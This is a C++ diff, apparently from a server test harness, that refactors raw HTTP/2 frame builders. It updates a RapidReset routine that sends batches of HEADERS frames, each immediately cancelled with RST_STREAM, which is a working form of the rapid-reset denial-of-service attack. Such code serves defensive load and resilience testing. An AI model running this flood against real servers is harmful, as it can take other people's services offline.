@@ -114,9 +114,7 @@ int ChurnConnections(const std::string& target, int n) {
   return connected;
 }
 
-namespace {
-
-std::string Frame(uint8_t type, uint8_t flags, uint32_t stream, const std::string& payload) {
+std::string H2Frame(uint8_t type, uint8_t flags, uint32_t stream, std::string_view payload) {
   std::string f;
   const size_t n = payload.size();
   f.push_back(static_cast<char>((n >> 16) & 0xff));
@@ -127,8 +125,14 @@ std::string Frame(uint8_t type, uint8_t flags, uint32_t stream, const std::strin
   for (int shift = 24; shift >= 0; shift -= 8) {
     f.push_back(static_cast<char>((stream >> shift) & 0xff));
   }
-  return f + payload;
+  return f.append(payload);
 }
+
+std::string H2RstStream(uint32_t stream) {
+  return H2Frame(0x3, 0, stream, std::string_view("\0\0\0\x08", 4));  // CANCEL
+}
+
+namespace {
 
 // An HPACK "literal header field without indexing, new name" (RFC 7541 6.2.2); every name and
 // value here is shorter than 127 bytes, so each length is one byte.
@@ -164,14 +168,13 @@ absl::StatusOr<int> RapidReset(const std::string& target, int n, const std::stri
   Literal(&headers, ":authority", "localhost");
   Literal(&headers, "content-type", "application/grpc");
   Literal(&headers, "te", "trailers");
-  const std::string cancel("\0\0\0\x08", 4);  // RST_STREAM error code CANCEL
-  std::string batch = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + Frame(0x4, 0, 0, "");
+  std::string batch = std::string(kH2Preface) + H2Frame(0x4, 0, 0, "");
   int sent = 0;
   char sink[65536];
   for (int i = 0; i < n; ++i) {
     const uint32_t stream = 1 + 2 * static_cast<uint32_t>(i);
-    batch += Frame(0x1, 0x4, stream, headers);  // HEADERS, END_HEADERS
-    batch += Frame(0x3, 0, stream, cancel);
+    batch += H2Frame(0x1, 0x4, stream, headers);  // HEADERS, END_HEADERS
+    batch += H2RstStream(stream);
     if (batch.size() < 16384 && i + 1 < n) continue;
     if (!SendAll(fd, batch)) break;
     sent = i + 1;
